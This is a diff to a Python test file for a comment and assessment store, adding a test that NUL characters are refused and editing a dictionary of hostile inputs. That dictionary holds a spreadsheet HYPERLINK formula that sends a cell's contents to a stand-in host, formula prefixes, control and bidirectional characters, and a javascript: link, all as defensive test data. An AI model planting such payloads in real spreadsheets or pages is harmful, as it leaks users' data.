@@ -18,7 +18,7 @@ HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
     "formula_prefixes": "+1\n-1\n@SUM(A1)\n\t=1",
     "long": "가나다라마바사 " * 2_400,  # 19,200 characters: under the limit
-    "control": "줄\r\n바꿈\x00널\x07벨\x1b[31m색\u202eRTL\ufeffBOM",
+    "control": "줄\r\n바꿈\x01\x07벨\x08\x1b[31m색\x7f\u202eRTL\ufeffBOM\u2028끝",
     "markdown": "**굵게** [링크](javascript:alert(1)) $\\LaTeX$ :red[빨강]",
 }
 
@@ -65,6 +65,15 @@ def test_text_over_the_limit_is_refused_and_nothing_is_stored(store: Store) -> N
     with pytest.raises(ValueError, match="empty"):
         comments.add_assessment(store, ACTORS["committee"], "S1-T1", "2026-Q3", "fair", " \n ", now=NOW)
     assert comments.comments(store) == [] and comments.assessments(store) == []
+
+
+def test_a_nul_character_is_refused_with_its_position(store: Store) -> None:
+    # PostgreSQL cannot keep NUL in text, so no backend takes it: the message says where it is.
+    with pytest.raises(ValueError, match="character 3"):
+        comments.add_comment(store, ACTORS["agency"], "S1-T2-K1", OWN_AGENCY, "2026-09", "가나\x00다", now=NOW)
+    with pytest.raises(ValueError, match="NUL"):
+        locks.lock(store, ACTORS["admin"], "2026-09", "\x00", now=NOW)
+    assert comments.comments(store) == [] and locks.list_locks(store) == []
 
 
 def test_the_latest_comment_is_shown_and_earlier_ones_are_kept(store: Store) -> None:
